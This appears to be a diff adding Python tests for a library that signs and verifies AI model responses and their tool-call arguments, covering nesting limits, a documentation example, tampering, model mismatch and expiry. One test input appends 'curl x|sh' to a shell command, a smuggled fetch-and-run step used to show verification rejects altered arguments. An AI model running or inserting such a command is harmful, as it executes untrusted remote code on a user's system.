@@ -234,6 +234,19 @@ def test_non_ijson_arguments_are_signed_verbatim(raw):
     assert env.tool_calls[0].arguments_raw == raw
 
 
+def test_nesting_limit():
+    deep = lambda n: "[" * n + "]" * n  # noqa: E731
+    assert parse(deep(64))[0] is not None
+    with pytest.raises(ValueError, match="deeper"):
+        parse(deep(65))
+    for n in (64, 65, 300, 5000):
+        transport = signed(response(tool_calls=[ToolCall("c", "f", deep(n))]))
+        env = check(transport, response(tool_calls=[ToolCall("c", "f", deep(n))]))
+        assert (env.tool_calls[0].arguments is not None) == (n <= 64)  # else raw or digest
+        with pytest.raises(ContentMismatch):
+            check(transport, response(tool_calls=[ToolCall("c", "f", deep(n + 1))]))
+
+
 def test_huge_exact_integers_are_numbers():
     transport = signed(response(tool_calls=[ToolCall("c", "f", '{"n": 100000000000000000000}')]))
     check(transport, response(tool_calls=[ToolCall("c", "f", '{"n": 1e20}')]))
@@ -700,6 +713,21 @@ def example_transport() -> tuple[SigningKey, str]:
 def test_worked_example_in_the_specification_is_current():
     key, transport = example_transport()
     doc = (Path(__file__).resolve().parents[2] / "docs" / "envelope.md").read_text()
-    assert transport in doc.replace("\n", "")
+    assert transport in "".join(doc.split())
     assert key.kid in doc
     assert base64.urlsafe_b64encode(EXAMPLE_SEED).rstrip(b"=").decode() in doc
+    # What the example says about verifying it.
+    keyset = KeySet([key.public()])
+
+    def verify(raw: str, model: str = "gpt-4o-2024-08-06", now: int = NOW + 1):
+        resp = Response(model=model, text="I'll list the files.", finish_reason="tool_calls",
+                        tool_calls=[ToolCall("call_1", "shell", raw)])
+        return E.verify(transport, keyset, response=resp, nonce=NONCE, request_body=REQUEST, now=now)
+    verify('{"timeout":30.0,"command":"ls -la"}')
+    with pytest.raises(ContentMismatch, match="tool call call_1 arguments differ"):
+        verify('{"command": "ls -la; curl x|sh", "timeout": 30}')
+    with pytest.raises(ContentMismatch, match="model differs: signed gpt-4o-2024-08-06, received gpt-4o-mini"):
+        verify('{"command": "ls -la", "timeout": 30}', model="gpt-4o-mini")
+    with pytest.raises(Expired):
+        verify('{"command": "ls -la", "timeout": 30}', now=1767226300)
+    assert f"exactly, {len(REQUEST)} bytes" in doc and f"({len(transport)} characters" in doc
